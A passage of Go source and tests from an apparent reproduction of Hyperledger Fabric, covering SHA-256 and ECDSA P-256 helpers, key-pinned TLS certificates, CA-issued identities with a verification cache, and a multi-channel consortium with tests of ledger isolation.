	if x == nil {
		return errors.New("fabcrypto: malformed public key")
	}
	pk := ecdsa.PublicKey{Curve: elliptic.P256(), X: x, Y: y}
	if !ecdsa.VerifyASN1(&pk, Hash(msg), sig) {
		return ErrInvalidSignature
	}
	return nil
}

// String returns a short hex fingerprint of the public key, convenient for
// logs and error messages.
func (p PublicKey) String() string {
	if len(p) == 0 {
		return "<nil-key>"
	}
	return HashHex(p)[:12]
}

// Fingerprint returns the full SHA-256 hex fingerprint of the key.
func (p PublicKey) Fingerprint() string {
	return HashHex(p)
}
