package fabcrypto

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"math/big"
	"net"
	"time"
)

// MarshalDER serializes the private key in SEC 1 ASN.1 DER form, the
// format netconfig material files carry identities in.
func (k *KeyPair) MarshalDER() ([]byte, error) {
	der, err := x509.MarshalECPrivateKey(k.priv)
	if err != nil {
		return nil, fmt.Errorf("marshal ec key: %w", err)
	}
	return der, nil
}

// ParseKeyPairDER is the inverse of MarshalDER.
func ParseKeyPairDER(der []byte) (*KeyPair, error) {
	priv, err := x509.ParseECPrivateKey(der)
	if err != nil {
		return nil, fmt.Errorf("parse ec key: %w", err)
	}
	if priv.Curve != elliptic.P256() {
		return nil, errors.New("fabcrypto: key is not P-256")
	}
	return &KeyPair{priv: priv}, nil
}

// TLSCertificate builds a self-signed x509 serving certificate over the
// key pair. Trust does not come from chain validation — wire peers pin
// the leaf public key against the fabcrypto key the consortium's CA
// certificate speaks for (see VerifyPinnedKey) — so a self-signed leaf
// is sufficient to bootstrap an authenticated, encrypted channel.
func (k *KeyPair) TLSCertificate(cn string) (tls.Certificate, error) {
	serial, err := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 128))
	if err != nil {
		return tls.Certificate{}, fmt.Errorf("tls serial: %w", err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          serial,
		Subject:               pkix.Name{CommonName: cn},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(10 * 365 * 24 * time.Hour),
		KeyUsage:              x509.KeyUsageDigitalSignature,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth, x509.ExtKeyUsageClientAuth},
		BasicConstraintsValid: true,
		DNSNames:              []string{cn, "localhost"},
		IPAddresses:           []net.IP{net.IPv4(127, 0, 0, 1), net.IPv6loopback},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.priv.PublicKey, k.priv)
	if err != nil {
		return tls.Certificate{}, fmt.Errorf("create tls certificate: %w", err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: k.priv}, nil
}

// VerifyPinnedKey returns a VerifyPeerCertificate callback accepting any
// presented chain whose leaf certificate speaks for the expected public
// key. Used with InsecureSkipVerify: the usual PKI path building is
// replaced by identity pinning against consortium-issued fabcrypto keys.
func VerifyPinnedKey(expected PublicKey) func(rawCerts [][]byte, _ [][]*x509.Certificate) error {
	return func(rawCerts [][]byte, _ [][]*x509.Certificate) error {
		if len(rawCerts) == 0 {
			return errors.New("fabcrypto: peer presented no certificate")
		}
		cert, err := x509.ParseCertificate(rawCerts[0])
		if err != nil {
			return fmt.Errorf("fabcrypto: parse peer certificate: %w", err)
		}
		pub, ok := cert.PublicKey.(*ecdsa.PublicKey)
		if !ok {
			return errors.New("fabcrypto: peer certificate key is not ECDSA")
		}
		got := elliptic.Marshal(elliptic.P256(), pub.X, pub.Y)
		if !bytes.Equal(got, expected) {
			return fmt.Errorf("fabcrypto: peer key %s does not match pinned key %s",
				PublicKey(got), expected)
		}
		return nil
	}
}
