package fabcrypto

import (
	"bytes"
	"testing"
	"testing/quick"
)

func TestHashDeterministic(t *testing.T) {
	a := Hash([]byte("hello"))
	b := Hash([]byte("hello"))
	if !bytes.Equal(a, b) {
		t.Fatal("hash not deterministic")
	}
	if len(a) != HashSize {
		t.Fatalf("digest size = %d, want %d", len(a), HashSize)
	}
	if bytes.Equal(a, Hash([]byte("hellO"))) {
		t.Fatal("distinct inputs collided")
	}
	if !bytes.Equal(HashString("hello"), a) {
		t.Fatal("HashString differs from Hash")
	}
	if len(HashHex([]byte("x"))) != 2*HashSize {
		t.Fatal("HashHex length wrong")
	}
}

// TestHashConcatFraming checks the length-prefix framing: moving a byte
// across a part boundary must change the digest.
func TestHashConcatFraming(t *testing.T) {
	a := HashConcat([]byte("ab"), []byte("c"))
	b := HashConcat([]byte("a"), []byte("bc"))
	if bytes.Equal(a, b) {
		t.Fatal("HashConcat framing ambiguity: (ab,c) == (a,bc)")
	}
	c := HashConcat([]byte("abc"))
	if bytes.Equal(a, c) || bytes.Equal(b, c) {
		t.Fatal("HashConcat framing ambiguity with single part")
	}
}

func TestHashConcatQuick(t *testing.T) {
	// Property: concatenation order matters and the function is
	// deterministic.
	f := func(a, b []byte) bool {
		h1 := HashConcat(a, b)
		h2 := HashConcat(a, b)
		if !bytes.Equal(h1, h2) {
			return false
		}
		if bytes.Equal(a, b) {
			return true
		}
		return !bytes.Equal(HashConcat(a, b), HashConcat(b, a))
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestEqual(t *testing.T) {
	if !Equal([]byte{1, 2}, []byte{1, 2}) {
		t.Error("equal slices reported unequal")
	}
	if Equal([]byte{1, 2}, []byte{1, 3}) {
		t.Error("unequal slices reported equal")
	}
	if Equal([]byte{1}, []byte{1, 2}) {
		t.Error("different lengths reported equal")
	}
	if !Equal(nil, nil) {
		t.Error("nil digests should be equal")
	}
}

func TestSignVerify(t *testing.T) {
	kp, err := GenerateKeyPair()
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("endorse me")
	sig, err := kp.Sign(msg)
	if err != nil {
		t.Fatal(err)
	}
	if err := Verify(kp.PublicKey(), msg, sig); err != nil {
		t.Fatalf("verify: %v", err)
	}
	if err := Verify(kp.PublicKey(), []byte("tampered"), sig); err == nil {
		t.Fatal("tampered message verified")
	}

	// Tampered signature.
	sig2 := append([]byte(nil), sig...)
	sig2[len(sig2)/2] ^= 0xff
	if err := Verify(kp.PublicKey(), msg, sig2); err == nil {
		t.Fatal("tampered signature verified")
	}

	// Wrong key.
	other := MustGenerateKeyPair()
	if err := Verify(other.PublicKey(), msg, sig); err == nil {
		t.Fatal("signature verified under wrong key")
	}

	// Malformed key.
	if err := Verify(PublicKey([]byte{1, 2, 3}), msg, sig); err == nil {
		t.Fatal("malformed key accepted")
	}
}

func TestPublicKeyString(t *testing.T) {
	kp := MustGenerateKeyPair()
	if s := kp.PublicKey().String(); len(s) != 12 {
		t.Errorf("fingerprint %q length %d, want 12", s, len(s))
	}
	if s := PublicKey(nil).String(); s != "<nil-key>" {
		t.Errorf("nil key string = %q", s)
	}
	if len(kp.PublicKey().Fingerprint()) != 64 {
		t.Error("full fingerprint should be 64 hex chars")
	}
}
