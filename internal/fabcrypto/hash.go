// Package fabcrypto provides the cryptographic primitives used across the
// Fabric reproduction: SHA-256 hashing of keys, values and payloads, and
// ECDSA P-256 signing for endorsements and identities.
//
// Hyperledger Fabric hashes private-data keys and values with SHA-256
// before they enter a block, and endorsers sign proposal responses with
// their enrollment keys. This package mirrors those operations on the
// standard library only.
package fabcrypto

import (
	"crypto/sha256"
	"encoding/hex"
)

// HashSize is the size in bytes of all digests produced by this package.
const HashSize = sha256.Size

// Hash returns the SHA-256 digest of data.
func Hash(data []byte) []byte {
	sum := sha256.Sum256(data)
	return sum[:]
}

// HashString returns the SHA-256 digest of s.
func HashString(s string) []byte {
	return Hash([]byte(s))
}

// HashHex returns the lowercase hex encoding of the SHA-256 digest of data.
func HashHex(data []byte) string {
	return hex.EncodeToString(Hash(data))
}

// HashConcat hashes the concatenation of the given byte slices with
// unambiguous length prefixes, so that HashConcat(a, b) differs from
// HashConcat(ab) and from HashConcat(b, a) even when the raw bytes collide.
func HashConcat(parts ...[]byte) []byte {
	h := sha256.New()
	var lenBuf [8]byte
	for _, p := range parts {
		n := uint64(len(p))
		for i := 0; i < 8; i++ {
			lenBuf[i] = byte(n >> (8 * (7 - i)))
		}
		h.Write(lenBuf[:])
		h.Write(p)
	}
	return h.Sum(nil)
}

// Equal reports whether two digests are identical. It is not constant time;
// digests here authenticate public block content, not secrets.
func Equal(a, b []byte) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
