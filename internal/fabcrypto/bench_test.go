package fabcrypto

import "testing"

// BenchmarkHash measures the SHA-256 cost Feature 2 adds per payload.
func BenchmarkHash(b *testing.B) {
	payload := make([]byte, 256)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Hash(payload)
	}
}

// BenchmarkSign measures one endorsement signature.
func BenchmarkSign(b *testing.B) {
	kp := MustGenerateKeyPair()
	msg := make([]byte, 512)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := kp.Sign(msg); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkVerify measures one endorsement verification — the per-
// endorsement cost of the validator's policy check and of the Feature 2
// client check.
func BenchmarkVerify(b *testing.B) {
	kp := MustGenerateKeyPair()
	msg := make([]byte, 512)
	sig, err := kp.Sign(msg)
	if err != nil {
		b.Fatal(err)
	}
	pub := kp.PublicKey()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := Verify(pub, msg, sig); err != nil {
			b.Fatal(err)
		}
	}
}
