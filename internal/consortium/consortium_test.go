package consortium

import (
	"context"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/ledger"
	"repro/internal/service"
)

// newFig1 builds the paper's Fig. 1 topology: org1, org2, org4 on
// channel C1; org2, org3 on channel C2.
func newFig1(t *testing.T) *Consortium {
	t.Helper()
	c, err := New(Options{
		Orgs: []string{"org1", "org2", "org3", "org4"},
		Channels: map[string][]string{
			"c1": {"org1", "org2", "org4"},
			"c2": {"org2", "org3"},
		},
		Seed: 3,
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range c.Channels() {
		def := &chaincode.Definition{Name: "asset", Version: "1.0"}
		if err := c.Channel(name).DeployChaincode(def, contracts.NewPublicAsset()); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

func TestChannelLedgersAreIsolated(t *testing.T) {
	c := newFig1(t)
	c1, c2 := c.Channel("c1"), c.Channel("c2")

	// org2 (member of both channels) writes different data on each.
	ctx := context.Background()
	if _, err := c1.Gateway("org2").Submit(ctx,
		service.NewInvoke("asset", "set", "k", "on-c1")); err != nil {
		t.Fatal(err)
	}
	if _, err := c2.Gateway("org2").Submit(ctx,
		service.NewInvoke("asset", "set", "k", "on-c2")); err != nil {
		t.Fatal(err)
	}

	// org2's per-channel ledgers disagree on k, by design.
	v1, _, _ := c1.Peer("org2").WorldState().Get("asset", "k")
	v2, _, _ := c2.Peer("org2").WorldState().Get("asset", "k")
	if string(v1) != "on-c1" || string(v2) != "on-c2" {
		t.Fatalf("c1=%q c2=%q", v1, v2)
	}

	// Chains advance independently.
	if c1.Peer("org2").Ledger().Height() != 1 || c2.Peer("org2").Ledger().Height() != 1 {
		t.Fatal("heights wrong")
	}

	// org3 is not on c1 at all.
	if c1.Peer("org3") != nil {
		t.Fatal("org3 has a peer on c1")
	}
	if c1.Channel.HasOrg("org3") {
		t.Fatal("org3 in c1 config")
	}
}

func TestSharedIdentityRootAcrossChannels(t *testing.T) {
	c := newFig1(t)
	// An identity issued by org2's consortium CA verifies on both
	// channels' verifiers — one identity root, many channels.
	id, err := c.CA("org2").Issue("admin0.org2", "admin")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range c.Channels() {
		v := c.Channel(name).Channel.Verifier()
		if err := v.ValidateCertificate(id.Cert); err != nil {
			t.Fatalf("channel %s rejects org2 identity: %v", name, err)
		}
	}
	// But org4's identity is unknown on c2 (org4 is not a member).
	id4, err := c.CA("org4").Issue("peer9.org4", "peer")
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Channel("c2").Channel.Verifier().ValidateCertificate(id4.Cert); err == nil {
		t.Fatal("c2 accepted an identity from non-member org4")
	}
}

func TestCrossChannelTransactionRejected(t *testing.T) {
	c := newFig1(t)
	c1, c2 := c.Channel("c1"), c.Channel("c2")

	// Endorse a transaction on c2, then try to order it into c1: the
	// endorsers' orgs (org2, org3) cannot satisfy c1's policies — and
	// org3's certificate is not even validatable there.
	gw2 := c2.Gateway("org2")
	prop, err := gw2.NewProposal("asset", "set", []string{"x", "y"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	tx, _, err := gw2.EndorseProposal(context.Background(), prop, service.AsEndorsers(c2.Peers()))
	if err != nil {
		t.Fatal(err)
	}
	if err := c1.Orderer.Submit(tx); err != nil {
		t.Fatal(err) // the orderer bundles blindly
	}
	c1.Orderer.Flush()
	_, code, err := c1.Peer("org1").Ledger().Transaction(tx.TxID)
	if err != nil {
		t.Fatal(err)
	}
	if code == ledger.Valid {
		t.Fatal("cross-channel transaction validated")
	}
	if _, _, ok := c1.Peer("org1").WorldState().Get("asset", "x"); ok {
		t.Fatal("cross-channel write applied")
	}
}

func TestOptionsValidation(t *testing.T) {
	if _, err := New(Options{}); err == nil {
		t.Fatal("empty options accepted")
	}
	if _, err := New(Options{Orgs: []string{"a"}}); err == nil {
		t.Fatal("no channels accepted")
	}
	_, err := New(Options{
		Orgs:     []string{"a"},
		Channels: map[string][]string{"c1": {"ghost"}},
	})
	if err == nil {
		t.Fatal("unknown channel member accepted")
	}
}
