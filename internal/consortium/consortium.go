// Package consortium assembles multi-channel deployments: one set of
// organizations (with a single identity root each) participating in
// several channels, each channel with its own ordering service, gossip
// fabric and fully isolated ledger — the paper's Fig. 1 topology, where
// P2 joins channels C1 and C2 and maintains a separate ledger for each.
//
// As in Fabric, a peer process hosts one ledger per channel it joins;
// the reproduction models each (org, channel) pairing as a channel-local
// peer state sharing the organization's CA-rooted identity.
package consortium

import (
	"fmt"
	"sort"

	"repro/internal/core"
	"repro/internal/identity"
	"repro/internal/network"
)

// Options configures a consortium build.
type Options struct {
	// Orgs is the full set of organizations.
	Orgs []string
	// Channels maps channel name -> member organizations (each must
	// appear in Orgs).
	Channels map[string][]string
	// DefaultEndorsement is the channel-default rule for every channel.
	DefaultEndorsement string
	// Security applies to every node on every channel.
	Security core.SecurityConfig
	// Seed drives deterministic Raft jitter (offset per channel).
	Seed int64
}

// Consortium is a set of channels over shared organization identities.
type Consortium struct {
	cas      map[string]*identity.CA
	channels map[string]*network.Network
}

// New builds the consortium: one CA per organization, one network per
// channel restricted to its member orgs.
func New(opts Options) (*Consortium, error) {
	if len(opts.Orgs) == 0 {
		return nil, fmt.Errorf("consortium: no organizations")
	}
	if len(opts.Channels) == 0 {
		return nil, fmt.Errorf("consortium: no channels")
	}
	known := make(map[string]bool, len(opts.Orgs))
	for _, org := range opts.Orgs {
		known[org] = true
	}

	c := &Consortium{
		cas:      make(map[string]*identity.CA, len(opts.Orgs)),
		channels: make(map[string]*network.Network, len(opts.Channels)),
	}
	for _, org := range opts.Orgs {
		ca, err := identity.NewCA(org)
		if err != nil {
			return nil, fmt.Errorf("consortium: %w", err)
		}
		c.cas[org] = ca
	}

	// Build channels in sorted order for deterministic seeds.
	names := make([]string, 0, len(opts.Channels))
	for name := range opts.Channels {
		names = append(names, name)
	}
	sort.Strings(names)
	for i, name := range names {
		members := opts.Channels[name]
		cas := make(map[string]*identity.CA, len(members))
		for _, org := range members {
			if !known[org] {
				return nil, fmt.Errorf("consortium: channel %q references unknown org %q", name, org)
			}
			cas[org] = c.cas[org]
		}
		net, err := network.New(network.Options{
			ChannelName:        name,
			Orgs:               members,
			DefaultEndorsement: opts.DefaultEndorsement,
			Security:           opts.Security,
			Seed:               opts.Seed + int64(i)*101,
			CAs:                cas,
		})
		if err != nil {
			return nil, fmt.Errorf("consortium: channel %q: %w", name, err)
		}
		c.channels[name] = net
	}
	return c, nil
}

// Channel returns the network of one channel, or nil.
func (c *Consortium) Channel(name string) *network.Network {
	return c.channels[name]
}

// Channels returns the sorted channel names.
func (c *Consortium) Channels() []string {
	out := make([]string, 0, len(c.channels))
	for name := range c.channels {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// CA returns an organization's consortium-wide certificate authority.
func (c *Consortium) CA(org string) *identity.CA { return c.cas[org] }
