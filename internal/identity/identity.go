// Package identity implements the membership service provider (MSP) layer
// of the Fabric reproduction.
//
// Every node in a permissioned Fabric network — peer, orderer or client —
// carries an identity: a certificate binding a public key to an
// organization and a role, signed by the organization's certificate
// authority. Policies (package policy) are evaluated over these
// identities: "AND(Org1.peer, Org2.peer)" asks whether a transaction
// carries valid signatures from a peer of org1 and a peer of org2.
//
// The reproduction keeps the semantics of Fabric's MSP (org binding, role
// binding, CA-signed certificates, signature verification) while replacing
// full X.509 machinery with a compact certificate structure.
package identity

import (
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"sync"

	"repro/internal/fabcrypto"
)

// Role describes the function of an identity inside its organization.
type Role string

// Roles recognized by the MSP. Fabric distinguishes peers, orderers,
// clients and admins; policies may reference any of them.
const (
	RolePeer    Role = "peer"
	RoleOrderer Role = "orderer"
	RoleClient  Role = "client"
	RoleAdmin   Role = "admin"
	// RoleMember matches any role of an organization in policy
	// expressions such as "Org1.member".
	RoleMember Role = "member"
)

var (
	// ErrUnknownOrg is returned when a certificate names an
	// organization the verifier has no CA material for.
	ErrUnknownOrg = errors.New("identity: unknown organization")
	// ErrBadCertificate is returned when a certificate's CA signature
	// does not verify.
	ErrBadCertificate = errors.New("identity: certificate signature invalid")
)

// Certificate binds a public key to an organization and role. It is signed
// by the organization's CA. The Subject is a human-readable node name such
// as "peer0.org1".
type Certificate struct {
	Subject string              `json:"subject"`
	Org     string              `json:"org"`
	Role    Role                `json:"role"`
	PubKey  fabcrypto.PublicKey `json:"pub_key"`
	CASig   []byte              `json:"ca_sig"`
}

// tbs returns the to-be-signed serialization of the certificate (all
// fields except the CA signature).
func (c *Certificate) tbs() []byte {
	return fabcrypto.HashConcat(
		[]byte(c.Subject),
		[]byte(c.Org),
		[]byte(c.Role),
		c.PubKey,
	)
}

// Bytes returns the canonical JSON serialization of the certificate, used
// when a certificate travels inside a transaction.
func (c *Certificate) Bytes() []byte {
	b, err := json.Marshal(c)
	if err != nil {
		// Certificate contains only marshalable fields; this cannot
		// fail for well-formed values.
		panic(fmt.Sprintf("identity: marshal certificate: %v", err))
	}
	return b
}

// ParseCertificate decodes a certificate serialized with Bytes.
func ParseCertificate(b []byte) (*Certificate, error) {
	var c Certificate
	if err := json.Unmarshal(b, &c); err != nil {
		return nil, fmt.Errorf("identity: parse certificate: %w", err)
	}
	return &c, nil
}

// Identity is a certificate together with the private key that can speak
// for it. Nodes hold an Identity; transactions carry only the Certificate.
type Identity struct {
	Cert *Certificate
	key  *fabcrypto.KeyPair
}

// Sign signs msg with the identity's private key.
func (id *Identity) Sign(msg []byte) ([]byte, error) {
	sig, err := id.key.Sign(msg)
	if err != nil {
		return nil, fmt.Errorf("identity %s: %w", id.Cert.Subject, err)
	}
	return sig, nil
}

// MSPID returns the identity's organization name.
func (id *Identity) MSPID() string { return id.Cert.Org }

// Subject returns the node name, e.g. "peer0.org1".
func (id *Identity) Subject() string { return id.Cert.Subject }

// CA is an organization's certificate authority. It issues certificates
// for the organization's nodes.
type CA struct {
	Org string
	key *fabcrypto.KeyPair
}

// NewCA creates a certificate authority for org.
func NewCA(org string) (*CA, error) {
	kp, err := fabcrypto.GenerateKeyPair()
	if err != nil {
		return nil, fmt.Errorf("identity: new CA for %s: %w", org, err)
	}
	return &CA{Org: org, key: kp}, nil
}

// PublicKey returns the CA's verification key, distributed to all channel
// members so that any peer can validate any certificate.
func (ca *CA) PublicKey() fabcrypto.PublicKey { return ca.key.PublicKey() }

// Issue creates a new identity (certificate + private key) for a node of
// the CA's organization.
func (ca *CA) Issue(subject string, role Role) (*Identity, error) {
	kp, err := fabcrypto.GenerateKeyPair()
	if err != nil {
		return nil, fmt.Errorf("identity: issue %s: %w", subject, err)
	}
	cert := &Certificate{
		Subject: subject,
		Org:     ca.Org,
		Role:    role,
		PubKey:  kp.PublicKey(),
	}
	sig, err := ca.key.Sign(cert.tbs())
	if err != nil {
		return nil, fmt.Errorf("identity: sign cert for %s: %w", subject, err)
	}
	cert.CASig = sig
	return &Identity{Cert: cert, key: kp}, nil
}

// Verifier validates certificates and signatures against a set of trusted
// organization CAs. Every peer holds a Verifier constructed from the
// channel configuration.
type Verifier struct {
	mu  sync.RWMutex
	cas map[string]fabcrypto.PublicKey // org -> CA public key
	// gen counts CA-set mutations; VerifyCache entries record the
	// generation they were verified under and treat a mismatch as a
	// miss, so CA rotation can never resurrect a stale verdict.
	gen uint64
}

// NewVerifier creates an empty Verifier. CAs are added with TrustCA.
func NewVerifier() *Verifier {
	return &Verifier{cas: make(map[string]fabcrypto.PublicKey)}
}

// TrustCA registers an organization's CA public key.
func (v *Verifier) TrustCA(org string, pub fabcrypto.PublicKey) {
	v.mu.Lock()
	defer v.mu.Unlock()
	v.cas[org] = append(fabcrypto.PublicKey(nil), pub...)
	v.gen++
}

// Generation returns the number of CA-set mutations so far. Caches key
// their entries to it: any TrustCA call invalidates everything cached
// under earlier generations.
func (v *Verifier) Generation() uint64 {
	v.mu.RLock()
	defer v.mu.RUnlock()
	return v.gen
}

// TrustedOrgs returns the sorted list of organizations with registered CAs.
func (v *Verifier) TrustedOrgs() []string {
	v.mu.RLock()
	defer v.mu.RUnlock()
	orgs := make([]string, 0, len(v.cas))
	for org := range v.cas {
		orgs = append(orgs, org)
	}
	sort.Strings(orgs)
	return orgs
}

// ValidateCertificate checks that cert was issued by the CA of the org it
// claims.
func (v *Verifier) ValidateCertificate(cert *Certificate) error {
	v.mu.RLock()
	caPub, ok := v.cas[cert.Org]
	v.mu.RUnlock()
	if !ok {
		return fmt.Errorf("%w: %q", ErrUnknownOrg, cert.Org)
	}
	if err := fabcrypto.Verify(caPub, cert.tbs(), cert.CASig); err != nil {
		return fmt.Errorf("%w: subject %q org %q", ErrBadCertificate, cert.Subject, cert.Org)
	}
	return nil
}

// VerifySignature checks that sig over msg was produced by the subject of
// cert, and that cert itself is valid.
func (v *Verifier) VerifySignature(cert *Certificate, msg, sig []byte) error {
	if err := v.ValidateCertificate(cert); err != nil {
		return err
	}
	if err := fabcrypto.Verify(cert.PubKey, msg, sig); err != nil {
		return fmt.Errorf("identity: signature by %q: %w", cert.Subject, err)
	}
	return nil
}
