package identity

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"

	"repro/internal/fabcrypto"
)

// Encoded is the serialized form of an Identity: the certificate plus the
// DER private key. It appears only in netconfig material files, which ship
// pre-issued identities to the separate OS processes of a wire deployment;
// transactions never carry private keys.
type Encoded struct {
	Cert []byte `json:"cert"`
	Key  []byte `json:"key"`
}

// Export serializes the identity, private key included.
func (id *Identity) Export() (*Encoded, error) {
	key, err := id.key.MarshalDER()
	if err != nil {
		return nil, fmt.Errorf("identity: export %s: %w", id.Cert.Subject, err)
	}
	return &Encoded{Cert: id.Cert.Bytes(), Key: key}, nil
}

// Identity reconstructs the identity and checks that the private key
// actually speaks for the certificate's public key.
func (e *Encoded) Identity() (*Identity, error) {
	cert, err := ParseCertificate(e.Cert)
	if err != nil {
		return nil, err
	}
	kp, err := fabcrypto.ParseKeyPairDER(e.Key)
	if err != nil {
		return nil, fmt.Errorf("identity: decode key for %s: %w", cert.Subject, err)
	}
	if !bytes.Equal(kp.PublicKey(), cert.PubKey) {
		return nil, fmt.Errorf("identity: key for %s does not match its certificate", cert.Subject)
	}
	return &Identity{Cert: cert, key: kp}, nil
}

// TLSCertificate builds a self-signed TLS certificate over the identity's
// key pair for wire transport security. Remote ends pin the leaf key to
// the certificate's PubKey instead of walking a PKI chain.
func (id *Identity) TLSCertificate() (tls.Certificate, error) {
	if id.key == nil {
		return tls.Certificate{}, errors.New("identity: no private key")
	}
	return id.key.TLSCertificate(id.Cert.Subject)
}
