package identity

import (
	"sync"
	"testing"

	"repro/internal/metrics"
)

func cacheFixture(t *testing.T) (*CA, *Identity, *Verifier) {
	t.Helper()
	ca, err := NewCA("org1")
	if err != nil {
		t.Fatal(err)
	}
	id, err := ca.Issue("peer0.org1", RolePeer)
	if err != nil {
		t.Fatal(err)
	}
	v := NewVerifier()
	v.TrustCA("org1", ca.PublicKey())
	return ca, id, v
}

func endorse(t *testing.T, id *Identity, msg []byte) (certBytes, sig []byte) {
	t.Helper()
	sig, err := id.Sign(msg)
	if err != nil {
		t.Fatal(err)
	}
	return id.Cert.Bytes(), sig
}

func TestVerifyCacheHitsAndMisses(t *testing.T) {
	_, id, v := cacheFixture(t)
	counters := &metrics.Counters{}
	c := NewVerifyCache(v, 0, counters)
	msg := []byte("payload")
	certBytes, sig := endorse(t, id, msg)

	if _, err := c.VerifyEndorsement(certBytes, msg, sig); err != nil {
		t.Fatal(err)
	}
	if got := counters.Get(metrics.VerifyCacheMisses); got != 1 {
		t.Fatalf("misses after first verify = %d, want 1", got)
	}
	// Identical endorsement: full hit, no crypto.
	if _, err := c.VerifyEndorsement(certBytes, msg, sig); err != nil {
		t.Fatal(err)
	}
	if got := counters.Get(metrics.VerifyCacheHits); got != 1 {
		t.Fatalf("hits after repeat verify = %d, want 1", got)
	}
	// Same endorser, different message: certificate-level hit.
	msg2 := []byte("other payload")
	_, sig2 := endorse(t, id, msg2)
	if _, err := c.VerifyEndorsement(certBytes, msg2, sig2); err != nil {
		t.Fatal(err)
	}
	if got := counters.Get(metrics.VerifyCacheHits); got != 2 {
		t.Fatalf("hits after new-message verify = %d, want 2", got)
	}
}

func TestVerifyCacheRejectsBadSignature(t *testing.T) {
	_, id, v := cacheFixture(t)
	c := NewVerifyCache(v, 0, nil)
	msg := []byte("payload")
	certBytes, sig := endorse(t, id, msg)
	bad := append([]byte(nil), sig...)
	bad[0] ^= 0xff
	if _, err := c.VerifyEndorsement(certBytes, msg, bad); err == nil {
		t.Fatal("corrupted signature verified")
	}
	// The failure must not poison the cache for the good signature, and
	// the good signature must not mask the bad one.
	if _, err := c.VerifyEndorsement(certBytes, msg, sig); err != nil {
		t.Fatal(err)
	}
	if _, err := c.VerifyEndorsement(certBytes, msg, bad); err == nil {
		t.Fatal("corrupted signature verified after a cached success")
	}
}

func TestVerifyCacheNegativeResultsNotCached(t *testing.T) {
	ca, err := NewCA("org9")
	if err != nil {
		t.Fatal(err)
	}
	id, err := ca.Issue("peer0.org9", RolePeer)
	if err != nil {
		t.Fatal(err)
	}
	v := NewVerifier()
	c := NewVerifyCache(v, 0, nil)
	msg := []byte("payload")
	certBytes, sig := endorse(t, id, msg)

	// org9's CA is unknown: verification fails.
	if _, err := c.VerifyEndorsement(certBytes, msg, sig); err == nil {
		t.Fatal("verified under unknown CA")
	}
	// Trusting the CA must take effect immediately — a cached negative
	// would wrongly keep failing.
	v.TrustCA("org9", ca.PublicKey())
	if _, err := c.VerifyEndorsement(certBytes, msg, sig); err != nil {
		t.Fatalf("after TrustCA: %v", err)
	}
}

func TestVerifyCacheGenerationInvalidation(t *testing.T) {
	_, id, v := cacheFixture(t)
	c := NewVerifyCache(v, 0, nil)
	msg := []byte("payload")
	certBytes, sig := endorse(t, id, msg)
	if _, err := c.VerifyEndorsement(certBytes, msg, sig); err != nil {
		t.Fatal(err)
	}
	// Rotate org1's CA: the old certificate chain is no longer valid,
	// and the cached success must not survive the rotation.
	ca2, err := NewCA("org1")
	if err != nil {
		t.Fatal(err)
	}
	v.TrustCA("org1", ca2.PublicKey())
	if _, err := c.VerifyEndorsement(certBytes, msg, sig); err == nil {
		t.Fatal("stale cache entry survived CA rotation")
	}
}

func TestVerifyCacheEviction(t *testing.T) {
	_, id, v := cacheFixture(t)
	c := NewVerifyCache(v, 3, nil)
	for i := 0; i < 10; i++ {
		msg := []byte{byte(i)}
		certBytes, sig := endorse(t, id, msg)
		if _, err := c.VerifyEndorsement(certBytes, msg, sig); err != nil {
			t.Fatal(err)
		}
	}
	if n := c.Len(); n > 3 {
		t.Fatalf("cache size %d exceeds capacity 3", n)
	}
}

func TestVerifyCacheDisabled(t *testing.T) {
	_, id, v := cacheFixture(t)
	counters := &metrics.Counters{}
	c := NewVerifyCache(v, -1, counters)
	msg := []byte("payload")
	certBytes, sig := endorse(t, id, msg)
	for i := 0; i < 3; i++ {
		if _, err := c.VerifyEndorsement(certBytes, msg, sig); err != nil {
			t.Fatal(err)
		}
	}
	if n := c.Len(); n != 0 {
		t.Fatalf("disabled cache stored %d entries", n)
	}
	if hits := counters.Get(metrics.VerifyCacheHits); hits != 0 {
		t.Fatalf("disabled cache reported %d hits", hits)
	}
}

func TestVerifyCacheConcurrent(t *testing.T) {
	_, id, v := cacheFixture(t)
	c := NewVerifyCache(v, 8, &metrics.Counters{})
	msgs := make([][]byte, 4)
	certs := make([][]byte, 4)
	sigs := make([][]byte, 4)
	for i := range msgs {
		msgs[i] = []byte{byte(i)}
		certs[i], sigs[i] = endorse(t, id, msgs[i])
	}
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				k := (w + i) % len(msgs)
				if _, err := c.VerifyEndorsement(certs[k], msgs[k], sigs[k]); err != nil {
					t.Error(err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
}
