package identity

import (
	"errors"
	"testing"
)

func TestIssueAndValidate(t *testing.T) {
	ca, err := NewCA("org1")
	if err != nil {
		t.Fatal(err)
	}
	id, err := ca.Issue("peer0.org1", RolePeer)
	if err != nil {
		t.Fatal(err)
